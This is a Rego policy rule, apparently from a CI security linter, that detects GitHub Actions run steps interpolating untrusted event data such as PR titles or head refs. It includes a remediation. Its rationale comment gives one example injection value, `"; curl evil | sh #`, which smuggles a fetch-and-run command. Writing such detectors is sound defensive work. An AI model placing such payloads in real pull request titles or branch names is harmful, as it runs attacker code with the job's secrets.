# METADATA
# id: github-script-injection
# title: Untrusted event data interpolated into a run script
# severity: high
# rationale: `${{ github.event.* }}` is pasted into the script before the shell runs it, so a
#   pull request title or branch name like `"; curl evil | sh #` becomes code running with the
#   job's token and secrets.
# remediation: Pass the value through an environment variable and quote it:
#   `env: { TITLE: "${{ github.event.pull_request.title }}" }` then `echo "$TITLE"`.
package vouch.rules.github.script_injection

import data.vouch.lib.github as lib

# Fields of the event payload GitHub (not the sender) controls.
safe_suffix := `\.(number|id|node_id|sha|created_at|updated_at|merged|draft|action|size|forced|before|after|run_id|run_number|run_attempt|default_branch)$`

untrusted(run) := [expr |
	some m in regex.find_n(`\$\{\{[^}]*\}\}`, run, -1)
	some expr in regex.find_n(`(github\.event\.[A-Za-z0-9_.\-\[\]*'"]+|github\.head_ref)`, m, -1)
	not regex.match(safe_suffix, expr)
]

deny contains f if {
	some pair in lib.steps
	s := pair[1]
	s.run != null
	exprs := untrusted(s.run)
	count(exprs) > 0
	f := {"msg": sprintf("run script interpolates untrusted %s", [concat(", ", sort(exprs))]), "line": s.run_line}
}
